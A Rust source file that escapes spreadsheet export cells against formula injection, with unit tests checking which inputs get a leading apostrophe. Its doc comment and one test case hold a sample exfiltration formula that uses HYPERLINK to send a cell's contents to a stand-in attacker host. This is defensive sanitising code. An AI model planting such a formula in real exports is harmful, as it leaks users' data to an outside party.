//! Cells of the exports as a spreadsheet reads them safely: a cell that begins with `=`, `+`,
//! `-` or `@` is taken for a formula (`=HYPERLINK("http://…?"&A1,"Cliquez")` sends the sheet's
//! data away), and a tab or a carriage return at the start can smuggle one in. Such a cell gets
//! a leading apostrophe, which spreadsheets show as text and do not keep in the value.

use std::borrow::Cow;

/// `text` as a cell no spreadsheet runs.
pub fn safe_cell(text: &str) -> Cow<'_, str> {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_cell_that_a_spreadsheet_would_run_becomes_text() {
        for formula in [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Cliquez\")",
            "+33 3 84 57 00 00",
            "-2+3",
            "@SUM(A1:A9)",
            "\t=1+1",
            "\r=1+1",
        ] {
            assert_eq!(safe_cell(formula), format!("'{formula}"), "{formula:?}");
        }
        for text in ["Accueil aimable.", "très bien", "3", "", " =1"] {
            assert_eq!(safe_cell(text), text, "{text:?}");
        }
    }
}
